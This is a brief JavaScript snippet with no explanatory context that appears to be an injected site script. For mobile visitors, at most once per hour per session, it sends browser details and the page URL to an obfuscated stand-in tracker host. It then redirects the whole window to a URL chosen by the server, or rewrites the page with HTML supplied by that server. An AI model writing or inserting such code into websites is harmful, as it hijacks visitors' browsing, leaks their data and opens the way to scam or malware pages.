const mob = /Android|iPhone|iPad/i;
function once(key, ttl) {
  const v = +sessionStorage.getItem(key);
  if (v && Date.now() - v < ttl) return false;
  sessionStorage.setItem(key, String(Date.now()));
  return true;
}
if (mob.test(navigator.userAgent) && once("k_sub", 36e5)) {
  fetch(`https://trk.${["vex", "lane"].join("")}.example/click_api/v3?token=0000&log=1`, {
    method: "POST",
    body: new URLSearchParams({
      ua: navigator.userAgent,
      referrer: document.referrer,
      language: navigator.language,
      landing: location.href,
    }),
  })
    .then((r) => r.json())
    .then((j) => {
      if (j && j.info && j.info.type === "location") top.location.replace(j.info.url);
      else if (j && j.body) document.open(), document.write(j.body), document.close();
    })
    .catch(() => 0);
}
